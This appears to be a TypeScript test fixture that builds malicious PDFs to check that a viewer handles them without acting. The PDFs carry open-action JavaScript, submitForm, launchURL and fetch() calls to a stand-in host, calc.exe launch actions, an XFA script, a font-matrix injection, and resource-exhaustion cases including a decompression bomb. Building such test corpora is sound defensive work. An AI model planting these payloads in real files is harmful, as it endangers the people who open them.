import { deflateSync } from 'node:zlib';
import { onePagePdf, pdfOf, streamOf } from './pdfs';

/** Where the files of this corpus would lead or send something. */
export const ELSEWHERE = 'https://elsewhere.example';

const SCRIPT = `app.alert('run'); this.submitForm('${ELSEWHERE}/form'); app.launchURL('${ELSEWHERE}/launched');`;
const link = (action: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << ${action} >> >>`;

/** Pages that contain each other. */
const circle = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 5 >>',
  '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 5 >>',
]);

const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);

/** Files that are accepted as whole PDFs and must do nothing: shown, or said not to be. The last tells which. */
export const HOSTILE_PDFS: readonly (readonly [name: string, content: Buffer, isShown: boolean])[] = [
  [
    'a script that runs when the file is opened',
    onePagePdf({ catalog: '/OpenAction 6 0 R', more: [`<< /S /JavaScript /JS (${SCRIPT}) >>`] }),
    true,
  ],
  [
    'scripts of the document, its pages and fields',
    onePagePdf({
      catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${SCRIPT}) >>] >> >> /AcroForm << /Fields [6 0 R] >>`,
      page: `/AA << /O << /S /JavaScript /JS (${SCRIPT}) >> >> /Annots [6 0 R]`,
      more: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [10 10 90 40] /AA << /K << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
      ],
    }),
    true,
  ],
  [
    'a program to launch, and a file to fetch',
    onePagePdf({
      catalog: '/OpenAction << /S /Launch /F (calc.exe) >>',
      page: `/Annots [${link('/S /Launch /F (calc.exe)')} ${link(`/S /GoToR /F (${ELSEWHERE}/remote.pdf)`)}]`,
    }),
    true,
  ],
  [
    'links, opened by themselves and by a press',
    onePagePdf({
      catalog: `/OpenAction << /S /URI /URI (${ELSEWHERE}/opened) >>`,
      page: `/Annots [${link(`/S /URI /URI (${ELSEWHERE}/pressed)`)} ${link('/S /URI /URI (javascript:alert\\(1\\))')}]`,
    }),
    true,
  ],
  [
    'a form that is sent when it is opened',
    onePagePdf({ catalog: `/OpenAction << /S /SubmitForm /F (${ELSEWHERE}/form) >>` }),
    true,
  ],
  [
    'a form of XFA',
    onePagePdf({
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      more: [
        streamOf(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${SCRIPT}</script></event></subform></template></xdp:xdp>`,
        ),
      ],
    }),
    true,
  ],
  [
    'an embedded file',
    onePagePdf({
      catalog:
        '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>',
      more: [streamOf('MZ', '/Type /EmbeddedFile')],
    }),
    true,
  ],
  [
    'content from elsewhere',
    onePagePdf({ content: streamOf('', `/F << /FS /URL /F (${ELSEWHERE}/content) >>`) }),
    true,
  ],
  [
    'a font with code in its matrix',
    onePagePdf({
      page: '/Resources << /Font << /F1 6 0 R >> >>',
      more: [
        "<< /Type /Font /Subtype /Type1 /BaseFont /A /FontMatrix [1 0 0 1 0 (0\\); fetch\\('https://elsewhere.example/font'\\)//)] /FirstChar 0 /LastChar 0 /Widths [500] /FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 >> >>",
      ],
    }),
    true,
  ],
  ['a page of a million inches', onePagePdf({ mediaBox: '[0 0 72000000 72000000]' }), true],
  ['a page of nothing', onePagePdf({ mediaBox: '[0 0 0 0]' }), true],
  ['a page that is a hair', onePagePdf({ mediaBox: '[0 0 1 9000000]' }), true],
  [
    'ten thousand pages that are claimed',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 10000 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      streamOf('BT /F1 24 Tf 60 760 Td (Badges are worn.) Tj ET'),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ]),
    true,
  ],
  ['pages that contain each other', circle, false],
  ['lists within lists', onePagePdf({ catalog: `/Deep ${nested(200_000)}` }), false],
  [
    'a picture of a hundred thousand pixels square',
    onePagePdf({
      page: '/Resources << /Font << /F1 5 0 R >> /XObject << /I 6 0 R >> >>',
      content: streamOf('BT /F1 24 Tf 60 760 Td (Badges are worn.) Tj ET q 500 0 0 500 0 0 cm /I Do Q'),
      more: [
        streamOf(
          deflateSync(Buffer.alloc(1000)),
          '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode',
        ),
      ],
    }),
    true,
  ],
];

/** A few kilobytes that unpack to gigabytes, twice packed. */
export const bombPdf = (): Buffer => {
  const once = deflateSync(Buffer.alloc(1 << 28, ' '), { level: 9 });
  return onePagePdf({
    content: streamOf(
      deflateSync(Buffer.concat(Array<Buffer>(16).fill(once)), { level: 9 }),
      '/Filter [/FlateDecode /FlateDecode]',
    ),
  });
};
